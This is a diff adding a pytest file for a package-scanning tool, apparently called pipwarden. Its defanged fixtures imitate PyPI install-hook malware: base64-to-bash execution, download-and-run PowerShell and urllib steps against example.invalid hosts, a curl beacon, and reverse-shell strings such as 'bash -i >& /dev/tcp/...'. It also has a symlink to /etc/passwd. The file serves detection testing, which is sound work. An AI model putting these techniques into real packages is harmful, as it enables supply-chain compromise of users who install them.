@@ -1,0 +1,301 @@
+"""Execution context decides severity; install-time techniques seen in real PyPI malware.
+
+Every sample is defanged (hosts under example.invalid, inert commands) and only
+parsed, never run. The techniques are those the real-malware benchmark
+(bench/malware/) showed the scanner missing; each has a benign look-alike.
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+
+from pipwarden.findings import Finding, Severity
+from pipwarden.scan import scan_target
+from pipwarden.scan.context import Context, contextualise, file_context
+from tests.support.builders import build_sdist
+
+INSTALL_CLASS = (
+    "from setuptools import setup\n"
+    "from setuptools.command.install import install\n"
+    "import base64, os, subprocess, tempfile, urllib.request\n"
+    "{helpers}"
+    "class PostInstall(install):\n"
+    "    def run(self):\n"
+    "        install.run(self)\n"
+    "{body}"
+    "setup(name='p', version='1', cmdclass={{'install': PostInstall}})\n"
+)
+
+
+def _indent(lines: str) -> str:
+    return "".join(f"        {line}\n" for line in lines.splitlines())
+
+
+def _scan_sdist(tmp_path: Path, files: dict[str, str | bytes]) -> tuple[str, list[Finding]]:
+    filename, data = build_sdist("p", "1", files)
+    path = tmp_path / filename
+    path.write_bytes(data)
+    result = scan_target(path)
+    return result.verdict, result.findings
+
+
+def _setup(tmp_path: Path, body: str, helpers: str = "") -> tuple[str, set[str]]:
+    source = INSTALL_CLASS.format(helpers=helpers, body=_indent(body))
+    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
+    return verdict, {f.rule for f in findings if f.severity >= Severity.HIGH}
+
+
+SHELL_B64 = base64.b64encode(b"echo DEFANGED").decode()
+
+# (technique, install-command body, helper functions, verdict, a rule it must raise)
+INSTALL_TECHNIQUES = [
+    (
+        "echo-base64-pipe-bash",
+        f"os.system('echo {SHELL_B64} | base64 -d | bash')",
+        "",
+        "malicious",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "encoded-at-run-time-then-piped",
+        "enc = base64.b64encode(b'echo DEFANGED')\nos.system('echo %s|base64 -d|bash' % enc.decode())",
+        "",
+        "malicious",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "decoding-helper-on-a-literal",
+        "run_it()",
+        "def b64d(code):\n    return base64.b64decode(code.encode('ascii')).decode('ascii')\n"
+        f"def run_it():\n    os.system(b64d({SHELL_B64!r}))\n",
+        "malicious",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "powershell-through-a-run-helper",
+        "run('powershell -Command \"Invoke-WebRequest -Uri https://files.example.invalid/a.zip "
+        "-OutFile $env:TEMP\\\\a.zip\"')\n"
+        "run('powershell -Command \"Expand-Archive -Path $env:TEMP\\\\a.zip -DestinationPath "
+        "$env:TEMP\\\\a\"')\n"
+        "run('powershell -Command \"Start-Process -WindowStyle Hidden $env:TEMP\\\\a\\\\a.exe\"')",
+        "def run(cmd):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n"
+        "    return p.communicate()\n",
+        "malicious",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "download-to-temp-then-run",
+        "path = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
+        "urllib.request.urlretrieve('https://files.example.invalid/upd.exe', path)\n"
+        "subprocess.Popen([path])",
+        "",
+        "malicious",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "curl-at-install-time",
+        "os.system('curl https://beacon.example.invalid/ping')",
+        "",
+        "suspicious",
+        "install-hook.network",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("body", "helpers", "verdict", "rule"),
+    [t[1:] for t in INSTALL_TECHNIQUES],
+    ids=[t[0] for t in INSTALL_TECHNIQUES],
+)
+def test_install_time_technique(
+    tmp_path: Path, body: str, helpers: str, verdict: str, rule: str
+) -> None:
+    got, rules = _setup(tmp_path, body, helpers)
+    assert rule in rules
+    assert got == verdict or (verdict == "suspicious" and got == "malicious")
+
+
+def test_install_command_running_a_build_tool_stays_clean(tmp_path: Path) -> None:
+    verdict, rules = _setup(
+        tmp_path,
+        "subprocess.check_call(['make', '-C', 'native'])\nos.system('echo built')",
+        "def run(cmd):\n    return subprocess.call(cmd, shell=True)\n",
+    )
+    assert verdict == "clean", rules
+
+
+def test_paste_site_contacted_by_setup_py_is_flagged(tmp_path: Path) -> None:
+    source = (
+        "import requests\nfrom setuptools import setup\n"
+        "cfg = requests.get('https://pastebin.com/raw/DEFANGED0').text\nsetup(name='p')\n"
+    )
+    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
+    assert verdict != "clean"
+    paste = [f for f in findings if f.rule == "suspicious-endpoint.paste-site"]
+    assert paste and paste[0].severity == Severity.HIGH
+
+
+def test_obfuscator_renaming_exec_is_suspicious(tmp_path: Path) -> None:
+    module = "from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\nRun(Text(1))\n"
+    verdict, findings = _scan_sdist(tmp_path, {"p/__init__.py": module, "setup.py": ""})
+    assert verdict != "clean"
+    assert "obfuscation.builtin-alias" in {f.rule for f in findings}
+
+
+# ---------------------------------------------------------------- test and docs files
+
+
+POPULAR_PROJECT_TESTS: dict[str, str | bytes] = {
+    "setup.py": "from setuptools import setup\nsetup(name='p', version='1')\n",
+    "p/__init__.py": "VERSION = '1'\n",
+    # A test that pickles a response (requests' own suite does).
+    "tests/test_pickle.py": (
+        "import pickle, requests\n"
+        "def test_response_pickles():\n"
+        "    r = requests.get('https://httpbin.example.invalid/get')\n"
+        "    assert pickle.loads(pickle.dumps(r)).status_code == r.status_code\n"
+        "    assert pickle.loads(r.content) is not None\n"
+    ),
+    # A test client built with a credential from the environment.
+    "tests/conftest.py": (
+        "import os, requests\n"
+        "TOKEN = os.environ['API_SECRET_TOKEN']\n"
+        "requests.post('https://api.example.invalid/login', data={'token': TOKEN})\n"
+    ),
+    # An example that signs a request with the user's key.
+    "examples/sign.py": (
+        "import os, requests\n"
+        "requests.post('https://api.example.invalid/upload',\n"
+        "              headers={'key': os.environ['ACCESS_KEY_SECRET']})\n"
+    ),
+}
+
+
+def test_test_suite_and_examples_of_an_sdist_are_not_flagged(tmp_path: Path) -> None:
+    verdict, findings = _scan_sdist(tmp_path, POPULAR_PROJECT_TESTS)
+    assert verdict == "clean", [(f.rule, f.file, f.severity) for f in findings]
+    assert all(f.severity <= Severity.LOW for f in findings if "/tests/" in (f.file or ""))
+
+
+def test_the_same_code_in_the_package_still_counts(tmp_path: Path) -> None:
+    files = dict(POPULAR_PROJECT_TESTS)
+    files["p/__init__.py"] = files.pop("tests/conftest.py")
+    verdict, _ = _scan_sdist(tmp_path, files)
+    assert verdict != "clean"
+
+
+def test_a_test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "setup.py": "from tests import boot\nfrom setuptools import setup\nsetup(name='p')\n",
+        "tests/__init__.py": "",
+        "tests/boot.py": f"import os\nos.system('echo {SHELL_B64} | base64 -d | sh')\n",
+    }
+    verdict, _ = _scan_sdist(tmp_path, files)
+    assert verdict == "malicious"
+
+
+@pytest.mark.parametrize(
+    ("path", "kind", "context"),
+    [
+        ("p-1/setup.py", "sdist", Context.INSTALL),
+        ("p-1/tests/test_x.py", "sdist", Context.TEST),
+        ("p-1/src/p/tests/helpers.py", "sdist", Context.TEST),
+        ("p-1/conftest.py", "sdist", Context.TEST),
+        ("p-1/docs/conf.py", "sdist", Context.DOCS),
+        ("p-1/examples/demo.py", "sdist", Context.DOCS),
+        ("demo-1/demo/__init__.py", "sdist", Context.PACKAGE),
+        ("p-1/src/p/docs/__init__.py", "sdist", Context.PACKAGE),
+        # A package named like a test is a package; wheels install their tests as code.
+        ("p-1/api_test/__init__.py", "sdist", Context.PACKAGE),
+        ("p-1/ttat-api-test/__init__.py", "sdist", Context.PACKAGE),
+        ("p/tests/test_x.py", "wheel", Context.PACKAGE),
+        ("tests/test_x.py", "folder", Context.TEST),
+    ],
+)
+def test_file_context(path: str, kind: str, context: Context) -> None:
+    assert file_context(path, kind) is context
+
+
+def test_contextualise_keeps_archive_findings_in_docs() -> None:
+    f = Finding("code", "archive.special-file", Severity.HIGH, "fifo", file="p-1/docs/x")
+    assert contextualise([f], "sdist")[0].severity == Severity.HIGH
+
+
+def test_docs_symlink_to_the_project_root_is_not_outside_the_archive(tmp_path: Path) -> None:
+    import io
+    import tarfile
+
+    path = tmp_path / "p-1.tar.gz"
+    with tarfile.open(path, "w:gz") as tar:
+        for name, data in (("p-1/setup.py", b"from setuptools import setup\nsetup()\n"),):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        for name, target in (("p-1/docs/changes.rst", "../CHANGES.rst"), ("p-1/docs/src", "..")):
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = target
+            tar.addfile(info)
+    result = scan_target(path)
+    links = [f for f in result.findings if f.rule == "archive.link"]
+    assert links and all(f.severity == Severity.MEDIUM for f in links)
+    assert result.verdict == "clean"
+
+
+def test_symlink_escaping_the_archive_stays_high(tmp_path: Path) -> None:
+    import tarfile
+
+    path = tmp_path / "p-1.tar.gz"
+    with tarfile.open(path, "w:gz") as tar:
+        info = tarfile.TarInfo("p-1/docs/passwd")
+        info.type = tarfile.SYMTYPE
+        info.linkname = "../../../etc/passwd"
+        tar.addfile(info)
+    links = [f for f in scan_target(path).findings if f.rule == "archive.link"]
+    assert links and links[0].severity == Severity.HIGH
+
+
+# ---------------------------------------------------------------- literals that never run
+
+RULE_TEXTS = (
+    "import re\n"
+    "REVERSE_SHELL_RE = re.compile(r'bash -i >& /dev/tcp/|nc -e /bin/sh')\n"
+    "DESCRIPTION = \"A command such as 'bash -i >& /dev/tcp/...' or 'nc -e /bin/sh'.\"\n"
+    "def rule(text):\n    return {'description': text}\n"
+    "RULES = [rule('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')]\n"
+)
+
+
+def test_rule_texts_naming_shell_commands_are_not_payloads(tmp_path: Path) -> None:
+    (tmp_path / "rules.py").write_text(RULE_TEXTS)
+    result = scan_target(tmp_path)
+    assert result.verdict == "clean"
+    assert all(f.severity <= Severity.MEDIUM for f in result.findings)
+
+
+def test_the_same_literal_run_is_critical(tmp_path: Path) -> None:
+    (tmp_path / "rules.py").write_text(
+        "import os\nCMD = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n"
+        "def go(c):\n    os.system(c)\ngo(CMD)\n"
+    )
+    assert scan_target(tmp_path).verdict == "malicious"
+
+
+def test_address_lookups_are_not_network_payloads(tmp_path: Path) -> None:
+    # torch's etcd_server: a free port from getaddrinfo on a command line.
+    (tmp_path / "srv.py").write_text(
+        "import socket, subprocess\n"
+        "def free_port():\n"
+        "    for family, kind, proto, _, _ in socket.getaddrinfo('localhost', None):\n"
+        "        s = socket.socket(family, kind, proto)\n"
+        "        s.bind(('localhost', 0))\n"
+        "        return s\n"
+        "def start():\n"
+        "    port = free_port().getsockname()[1]\n"
+        "    subprocess.Popen(['etcd', '--listen-client-urls', f'http://localhost:{port}'])\n"
+    )
+    result = scan_target(tmp_path)
+    assert result.verdict == "clean", [(f.rule, f.message) for f in result.findings]
